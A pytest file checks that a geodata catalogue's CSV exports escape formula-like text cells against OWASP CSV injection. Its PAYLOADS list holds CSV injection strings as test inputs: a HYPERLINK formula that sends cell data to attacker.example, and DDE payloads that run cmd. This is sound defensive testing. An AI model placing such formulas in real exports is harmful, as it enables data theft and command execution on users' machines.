"""CSV exports escape text that a spreadsheet would run as a formula (OWASP CSV injection).

A text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is written behind an
apostrophe; numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import io
import zipfile

import geopandas as gpd
import pytest
import shapely

from layers.catalogue.exports import _csv_zip, dataset_export
from layers.csv_safe import FORMULA_STARTS, SafeDictWriter, SafeWriter, safe_cell
from layers.models import Dataset, Landmark

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_starting_like_a_formula_is_escaped(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", [-3.5, -7, 0, 12.25, None, "", "ตลาด", "a=b", "1-2", "'=x"])
def test_numbers_and_harmless_text_are_left_alone(value):
    assert safe_cell(value) == value


def test_every_formula_start_of_owasp_is_covered():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_writers_escape_rows_and_headers():
    buffer = io.StringIO()
    SafeWriter(buffer).writerow(["=1+1", -4, "-x"])
    dict_writer = SafeDictWriter(buffer, fieldnames=["a", "b"])
    dict_writer.writerow({"a": "@x", "b": -1.5})

    rows = list(csv.reader(io.StringIO(buffer.getvalue())))

    assert rows == [["'=1+1", "-4", "'-x"], ["'@x", "-1.5"]]


def test_dataset_csv_escapes_text_and_keeps_negative_numbers(db, nst, tmp_path):
    landmarks = Dataset.objects.get(municipality=nst, slug="landmarks-osm")
    frame = gpd.GeoDataFrame(
        {
            "id": list(range(1, len(PAYLOADS) + 2)),
            "name": [*PAYLOADS, "วัดพระมหาธาตุ"],
            "level_m": [-3.5, -7.0, 0.0, 2.5, -0.25, 1.0, -12.0],
            "count": [-1, -2, 3, 4, 5, 6, 7],
        },
        geometry=[shapely.Point(99.96, 8.42)] * (len(PAYLOADS) + 1),
        crs="EPSG:4326",
    )

    exported = _csv_zip(landmarks, frame, tmp_path, "formula")

    with zipfile.ZipFile(exported.path) as archive:
        text = archive.read("formula.csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["name"] for row in rows] == ["'" + p for p in PAYLOADS] + ["วัดพระมหาธาตุ"]
    assert [float(row["level_m"]) for row in rows] == [-3.5, -7.0, 0.0, 2.5, -0.25, 1.0, -12.0]
    assert [int(row["count"]) for row in rows] == [-1, -2, 3, 4, 5, 6, 7]
    assert all(not row["wkt"].startswith(FORMULA_STARTS) for row in rows)


def test_catalogue_csv_export_escapes_a_stored_formula(db, nst, tmp_path):
    landmarks = Dataset.objects.get(municipality=nst, slug="landmarks-osm")
    landmark = Landmark.objects.filter(dataset=landmarks).order_by("id").first()
    landmark.name_th = PAYLOADS[0]
    landmark.name_en = "-1+1"
    landmark.save(update_fields=["name_th", "name_en"])

    exported = dataset_export(dataset=landmarks, fmt="csv", directory=tmp_path)

    with zipfile.ZipFile(exported.path) as archive:
        name = next(n for n in archive.namelist() if n.endswith(".csv"))
        text = archive.read(name).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    escaped = [row for row in rows if row["name_th"] == "'" + PAYLOADS[0]]
    assert len(escaped) == 1
    assert escaped[0]["name_en"] == "'-1+1"
    for other in rows:
        assert not any(str(v).startswith(("=", "+", "@")) for v in other.values())
        float(other["lon"]), float(other["lat"])  # coordinates stay numbers
